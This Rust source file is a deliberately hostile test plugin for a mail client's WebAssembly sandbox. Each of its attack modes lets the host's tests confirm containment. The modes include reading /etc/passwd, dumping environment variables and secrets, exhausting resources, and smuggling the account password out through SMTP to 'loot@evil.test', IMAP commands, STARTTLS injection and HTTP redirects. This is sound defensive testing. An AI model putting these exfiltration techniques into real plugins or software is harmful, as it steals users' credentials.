//! `hostile`: a plugin that tries, one attack per account setting `attack`,
//! to get out of its sandbox. The host's tests run each attack and assert
//! that it is contained with a specific error while other plugins keep
//! working. Each attack reports what it observed in an `other` error, so the
//! tests can check what the plugin saw as well as what the host did.
//!
//! Never install it anywhere but a test.

wit_bindgen::generate!({
    // The plugin world, plus the raw WASI interfaces a plugin could reach for.
    inline: r#"
        package test:hostile;
        world hostile {
            include mailroom:provider/plugin@1.0.0;
            import wasi:filesystem/preopens@0.2.12;
            import wasi:sockets/tcp-create-socket@0.2.12;
            import wasi:sockets/instance-network@0.2.12;
            import wasi:sockets/ip-name-lookup@0.2.12;
        }
    "#,
    // The contract exactly as released at 1.0.0: this plugin is the proof
    // that a 1.0 plugin keeps working, and is held to the 1.0 rules.
    path: "../../wit/archive/1.0.0",
    world: "test:hostile/hostile",
    generate_all,
});

use exports::mailroom::provider::provider::{
    Account, BasicCredential, Credential, Endpoint, Field, Guest, GuestSession, Message, Outgoing,
    Page, PluginInfo, ProviderError, Session, Window,
};
use mailroom::provider::net::{Connection, SecretEncoding, Security};

struct Hostile;

fn setting<'a>(account: &'a Account, name: &str) -> &'a str {
    account
        .settings
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
        .unwrap_or("")
}

fn report(what: impl Into<String>) -> ProviderError {
    ProviderError::Other(what.into())
}

fn target(account: &Account) -> (String, u16) {
    (
        setting(account, "target_host").to_string(),
        setting(account, "target_port").parse().unwrap_or(0),
    )
}

/// Read until a line ends or the peer closes.
fn read_line(conn: &Connection) -> String {
    let mut got = Vec::new();
    while !got.ends_with(b"\n") {
        match conn.read(4096) {
            Ok(chunk) if chunk.is_empty() => break,
            Ok(chunk) => got.extend(chunk),
            Err(e) => return format!("{}read error {e:?}", String::from_utf8_lossy(&got)),
        }
    }
    String::from_utf8_lossy(&got).into_owned()
}

/// Ask the host to write a secret in an IMAP LOGIN (the one framing it lets
/// a secret into here) to an echo server, and read back the echo.
fn echo_secret(conn: &Connection, secret: &str) -> String {
    match conn.write_secret(
        b"A1 LOGIN bob ",
        secret,
        &SecretEncoding::ImapQuoted,
        b"\r\n",
    ) {
        Ok(()) => read_line(conn),
        Err(e) => format!("write-secret refused: {e:?}"),
    }
}

/// Open a TLS connection to the target.
fn open_target(account: &Account) -> Result<Connection, ProviderError> {
    let (host, port) = target(account);
    Connection::open(&host, port, Security::Tls).map_err(|e| report(format!("open: {e:?}")))
}

/// Write a secret with the bytes around it chosen by the plugin.
fn place(conn: &Connection, before: &[u8], encoding: SecretEncoding, after: &[u8]) -> String {
    match conn.write_secret(before, "password", &encoding, after) {
        Ok(()) => format!("written; read back {:?}", read_line(conn)),
        Err(e) => format!("refused: {e:?}"),
    }
}

/// Send a GET and wait for the response head.
fn http_send(authority: &str, path: &str) -> Result<wasi::http::types::IncomingResponse, String> {
    use wasi::http::outgoing_handler;
    use wasi::http::types::{Fields, OutgoingRequest, Scheme};
    let request = OutgoingRequest::new(Fields::new());
    let scheme = if authority.starts_with("http:") {
        Scheme::Http
    } else {
        Scheme::Https
    };
    let authority = authority.trim_start_matches("http:");
    request.set_scheme(Some(&scheme)).map_err(|()| "scheme")?;
    request
        .set_authority(Some(authority))
        .map_err(|()| "authority")?;
    request
        .set_path_with_query(Some(path))
        .map_err(|()| "path")?;
    let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    future.subscribe().block();
    future
        .get()
        .ok_or("no response")?
        .map_err(|()| "response taken")?
        .map_err(|e| format!("{e:?}"))
}

/// A POST whose body is written only after the answer has come (as a
/// client does when the server answers early, or before it reads the body):
/// the answer's status, and what the late write and finish returned.
fn late_body(authority: &str) -> String {
    use wasi::http::outgoing_handler;
    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let request = OutgoingRequest::new(Fields::new());
    let set = request.set_method(&Method::Post).is_ok()
        && request.set_scheme(Some(&Scheme::Https)).is_ok()
        && request.set_authority(Some(authority)).is_ok()
        && request.set_path_with_query(Some("/late")).is_ok();
    let Ok(body) = request.body() else {
        return "no request body".into();
    };
    if !set {
        return "request refused".into();
    }
    let future = match outgoing_handler::handle(request, None) {
        Ok(f) => f,
        Err(e) => return format!("{e:?}"),
    };
    future.subscribe().block();
    let status = match future.get() {
        Some(Ok(Ok(response))) => response.status().to_string(),
        other => format!("{other:?}"),
    };
    let wrote = match body.write() {
        Ok(stream) => match stream.blocking_write_and_flush(b"written late") {
            Ok(()) => "ok".to_string(),
            Err(e) => format!("{e:?}"),
        },
        Err(()) => "no stream".into(),
    };
    let finished = match OutgoingBody::finish(body, None) {
        Ok(()) => "ok".to_string(),
        Err(e) => format!("{e:?}"),
    };
    format!("status {status}; write {wrote}; finish {finished}")
}

/// Send a GET, read the body and return the trailers it ended with.
fn http_trailers(authority: &str, path: &str) -> Result<String, String> {
    use wasi::http::types::IncomingBody;
    let response = http_send(authority, path)?;
    let body = response.consume().map_err(|()| "body")?;
    {
        let stream = body.stream().map_err(|()| "stream")?;
        while stream.blocking_read(65536).is_ok() {}
    }
    let trailers = IncomingBody::finish(body);
    trailers.subscribe().block();
    let trailers = trailers
        .get()
        .ok_or("no trailers")?
        .map_err(|()| "trailers taken")?
        .map_err(|e| format!("{e:?}"))?;
    Ok(trailers
        .map(|t| {
            t.entries()
                .iter()
                .map(|(k, v)| format!("{k}: {}", String::from_utf8_lossy(v)))
                .collect::<Vec<_>>()
                .join("\n")
        })
        .unwrap_or_default())
}

/// Send a GET and read the whole response: headers, a blank line, the body.
fn http_get(authority: &str, path: &str) -> Result<String, String> {
    let response = http_send(authority, path)?;
    let body = response.consume().map_err(|()| "body")?;
    let stream = body.stream().map_err(|()| "stream")?;
    let mut out = Vec::new();
    while let Ok(chunk) = stream.blocking_read(65536) {
        out.extend(chunk);
    }
    let headers: Vec<String> = response
        .headers()
        .entries()
        .iter()
        .map(|(k, v)| format!("{k}: {}", String::from_utf8_lossy(v)))
        .collect();
    Ok(format!(
        "{}\n{}",
        headers.join("\n"),
        String::from_utf8_lossy(&out)
    ))
}

fn attack(account: &Account) -> Result<(), ProviderError> {
    let (host, port) = target(account);
    match setting(account, "attack") {
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![7u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "panic" => panic!("hostile panic: boom"),
        // Resources the host keeps for the plugin, without end.
        "resources" => {
            let mut held = Vec::new();
            for _ in 0..100_000 {
                held.push(wasi::http::types::Fields::new());
            }
            Err(report(format!("held {} fields", held.len())))
        }
        "undeclared" => match Connection::open("undeclared.example.com", 993, Security::Tls) {
            Ok(_) => Err(report("connected to an undeclared host")),
            Err(e) => Err(report(format!("open: {e:?}"))),
        },
        "http-undeclared" => match http_get("undeclared.example.com", "/") {
            Ok(_) => Err(report("fetched from an undeclared host")),
            Err(e) => Err(report(format!("http: {e}"))),
        },
        "private" => match Connection::open(&host, port, Security::Tls) {
            Ok(_) => Err(report("connected to a private address")),
            Err(e) => Err(report(format!("open: {e:?}"))),
        },
        "filesystem" => {
            let preopens = wasi::filesystem::preopens::get_directories().len();
            let read = std::fs::read_to_string("/etc/passwd").map(|s| s.len());
            Err(report(format!(
                "preopens: {preopens}; read /etc/passwd: {read:?}"
            )))
        }
        "sockets" => {
            use wasi::sockets::{instance_network, ip_name_lookup, network, tcp_create_socket};
            let tcp =
                tcp_create_socket::create_tcp_socket(network::IpAddressFamily::Ipv4).map(|_| ());
            let dns = ip_name_lookup::resolve_addresses(
                &instance_network::instance_network(),
                "localhost",
            )
            .map(|_| ());
            Err(report(format!("tcp: {tcp:?}; dns: {dns:?}")))
        }
        "environment" => {
            let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
            let args: Vec<String> = std::env::args().collect();
            Err(report(format!(
                "env: {} vars {vars:?}; args: {args:?}",
                vars.len()
            )))
        }
        "settings" => Err(report(format!(
            "settings: {:?}; secrets: {:?}",
            account.settings, account.secrets
        ))),
        "secret-plain" => {
            let conn = Connection::open(&host, port, Security::Plain)
                .map_err(|e| report(format!("open: {e:?}")))?;
            Err(report(format!("echo: {}", echo_secret(&conn, "password"))))
        }
        "secret-starttls" => {
            let conn = Connection::open(&host, port, Security::Plain)
                .map_err(|e| report(format!("open: {e:?}")))?;
            conn.write(b"A0 STARTTLS\r\n")
                .map_err(|e| report(format!("write: {e:?}")))?;
            let ok = read_line(&conn);
            conn.start_tls()
                .map_err(|e| report(format!("starttls after {ok:?}: {e:?}")))?;
            Err(report(format!("echo: {}", echo_secret(&conn, "password"))))
        }
        "sign-in-echo" => {
            let conn = open_target(account)?;
            Err(report(format!("echo: {}", echo_secret(&conn, "password"))))
        }
        // The password as the body of a mail to a third party, on a granted
        // connection: around the secret, and then written first.
        "smtp-exfil" => {
            let conn = open_target(account)?;
            let _ = conn.write(b"EHLO mailroom\r\n");
            let _ = read_line(&conn);
            let mail = b"MAIL FROM:<x@example.test>\r\nRCPT TO:<loot@evil.test>\r\nDATA\r\n";
            let around = place(&conn, mail, SecretEncoding::Raw, b"\r\n.\r\n");
            let _ = conn.write(mail);
            let after = place(
                &conn,
                b"AUTH PLAIN ",
                SecretEncoding::SaslPlain("bob".into()),
                b"\r\n",
            );
            Err(report(format!("around: {around}; after: {after}")))
        }
        // Signed in, the password again as a mailbox name.
        "imap-create" => {
            let conn = open_target(account)?;
            let signed_in = echo_secret(&conn, "password");
            let create = place(&conn, b"A2 CREATE ", SecretEncoding::ImapQuoted, b"\r\n");
            Err(report(format!("login: {signed_in}; create: {create}")))
        }
        // An EHLO left open so that the password becomes the client name.
        "unfinished-line" => {
            let conn = open_target(account)?;
            let _ = conn.write(b"EHLO ");
            let auth = place(
                &conn,
                b"AUTH PLAIN ",
                SecretEncoding::SaslPlain("bob".into()),
                b"\r\n",
            );
            Err(report(format!("auth: {auth}")))
        }
        // Read the STARTTLS answer one byte at a time, leaving whatever the
        // server injected after it unread, and upgrade.
        "starttls-inject" => {
            let conn = Connection::open(&host, port, Security::Plain)
                .map_err(|e| report(format!("open: {e:?}")))?;
            conn.write(b"STARTTLS\r\n")
                .map_err(|e| report(format!("write: {e:?}")))?;
            let mut answer = Vec::new();
            while !answer.ends_with(b"\n") {
                match conn.read(1) {
                    Ok(b) if !b.is_empty() => answer.extend(b),
                    other => return Err(report(format!("read: {other:?}"))),
                }
            }
            match conn.start_tls() {
                Ok(()) => Err(report("upgraded over injected plaintext")),
                Err(e) => Err(report(format!("starttls: {e:?}"))),
            }
        }
        "secret-unknown" => {
            let conn = Connection::open(&host, port, Security::Tls)
                .map_err(|e| report(format!("open: {e:?}")))?;
            Err(report(format!(
                "echo: {}",
                echo_secret(&conn, "no_such_secret")
            )))
        }
        // The bearer endpoint, or the Basic one (`basic_host`), echoing the
        // request at `path` (`/echo`, `/upper`, `/json`, `/url`).
        "secret-http" | "basic-http" => {
            let authority = if setting(account, "attack") == "basic-http" {
                format!("{}:{port}", setting(account, "basic_host"))
            } else {
                format!("{host}:{port}")
            };
            let path = match setting(account, "path") {
                "" => "/echo",
                p => p,
            };
            match http_get(&authority, path) {
                Ok(text) => Err(report(format!("http echo: {text}"))),
                Err(e) => Err(report(format!("http: {e}"))),
            }
        }
        "http-trailer" => match http_trailers(&format!("{host}:{port}"), "/trailer") {
            Ok(text) => Err(report(format!("trailers: {text}"))),
            Err(e) => Err(report(format!("http: {e}"))),
        },
        "http-redirect" => {
            // Follow a redirect the way an HTTP client would: a new request.
            let response = http_send(&format!("{host}:{port}"), "/redirect").map_err(report)?;
            let location = response
                .headers()
                .get("location")
                .first()
                .map(|v| String::from_utf8_lossy(v).into_owned())
                .unwrap_or_default();
            let next = location
                .trim_start_matches("https://")
                .trim_end_matches('/');
            match http_get(next, "/") {
                Ok(_) => Err(report(format!("followed {location}"))),
                Err(e) => Err(report(format!(
                    "{} to {location}; then {e}",
                    response.status()
                ))),
            }
        }
        "http-late-body" => Err(report(late_body(&format!("{host}:{port}")))),
        "http-connections" => {
            let authority = format!("{host}:{port}");
            let (held, refused): (Vec<_>, Vec<_>) = (0..5)
                .map(|_| http_send(&authority, "/"))
                .partition(Result::is_ok);
            let refused: Vec<String> = refused.into_iter().filter_map(Result::err).collect();
            Err(report(format!("held {}; refused {refused:?}", held.len())))
        }
        "connections" => {
            let mut held = Vec::new();
            loop {
                match Connection::open(&host, port, Security::Tls) {
                    Ok(c) => held.push(c),
                    Err(e) => return Err(report(format!("opened {}; then {e:?}", held.len()))),
                }
                if held.len() > 100 {
                    return Err(report("opened more than 100 connections"));
                }
            }
        }
        other => Err(ProviderError::BadConfig(
            mailroom::provider::types::ConfigError {
                field: "attack".into(),
                why: format!("unknown attack `{other}`"),
            },
        )),
    }
}

struct HostileSession {
    size: usize,
}

impl GuestSession for HostileSession {
    fn sync(&self, _cursor: Option<String>, _window: Window) -> Result<Page, ProviderError> {
        Ok(Page {
            messages: vec![Message {
                id: "huge".into(),
                thread_id: None,
                folder: "INBOX".into(),
                flags: vec![],
                received_at: 0,
                raw: vec![b'x'; self.size],
            }],
            deletions: vec![],
            failed: vec![],
            cursor: "end".into(),
            more: false,
            progress: None,
        })
    }

    fn fetch(&self, _ids: Vec<String>) -> Result<Page, ProviderError> {
        self.sync(
            None,
            Window {
                since: 0,
                skip: vec![],
            },
        )
    }
}

fn field(name: &str, secret: bool) -> Field {
    Field {
        name: name.into(),
        label: name.into(),
        help: String::new(),
        secret,
        required: false,
        default_value: None,
    }
}

fn endpoint(template: &str, credential: Option<Credential>) -> Endpoint {
    Endpoint {
        template: template.into(),
        purpose: "the test's echo server".into(),
        credential,
    }
}

impl Guest for Hostile {
    type Session = HostileSession;

    fn info() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: "6.6.6".into(),
            description: "Tries to escape its sandbox (tests only)".into(),
            fields: vec![
                field("attack", false),
                field("target_host", false),
                field("target_port", false),
                field("size", false),
                field("path", false),
                field("user", false),
                field("basic_host", false),
                field("password", true),
                field("token", true),
            ],
            endpoints: vec![
                endpoint("tls://{target_host}:{target_port}", None),
                endpoint("tcp://{target_host}:{target_port}", None),
                endpoint(
                    "https://{target_host}:{target_port}",
                    Some(Credential::Bearer("token".into())),
                ),
                endpoint(
                    "https://{basic_host}:{target_port}",
                    Some(Credential::Basic(BasicCredential {
                        user_field: "user".into(),
                        secret_field: "password".into(),
                    })),
                ),
            ],
        }
    }

    fn verify(account: Account) -> Result<(), ProviderError> {
        attack(&account)
    }

    fn open(account: Account) -> Result<Session, ProviderError> {
        let size = setting(&account, "size").parse().unwrap_or(1024);
        Ok(Session::new(HostileSession { size }))
    }

    fn send(_account: Account, _message: Outgoing) -> Result<Option<String>, ProviderError> {
        Err(report("hostile plugins do not send"))
    }
}

export!(Hostile);
